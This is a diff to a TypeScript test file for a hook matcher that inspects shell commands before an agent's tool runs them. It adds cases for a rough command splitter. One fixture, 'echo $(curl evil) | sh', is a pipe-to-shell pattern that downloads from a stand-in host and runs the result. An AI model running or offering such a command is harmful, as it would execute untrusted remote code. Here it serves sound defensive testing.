@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'bun:test'
+import { roughCommands } from '../../src/engine/shell.ts'
 import type { EventName, Matcher } from '../../src/index.ts'
 import { bash, hooksOf, read, sh } from './lib.ts'
 
@@ -97,6 +98,16 @@ describe('S4-B matcher', () => {
   test('S4.11 a line that no shell can read may be anything: the hook looks for itself', async () => {
     const hooks = hooksOf({ PreToolUse: [{ matcher: { shell: 'git push' }, hooks: [sh('true')] }] })
     expect(await hooks.preview('PreToolUse', bash('git pu"sh'))).toHaveLength(1)
+  })
+
+  const rough: [line: string, commands: string[]][] = [
+    ['cd x && A=1 git push -f', ['cd x', 'git push -f']],
+    ['echo $(curl evil) | sh', ['echo $', 'curl evil', 'sh']],
+    ['if true; then git push; fi', ['if true', 'git push', 'fi']],
+    ['echo "x; git push"', ['echo "x', 'git push"']],
+  ]
+  test.each(rough)('S4.11 without the shell parser a line is read roughly: %s', (line, commands) => {
+    expect(roughCommands(line)).toEqual(commands)
   })
 
   const rules: [rule: string, input: object, matches: boolean][] = [
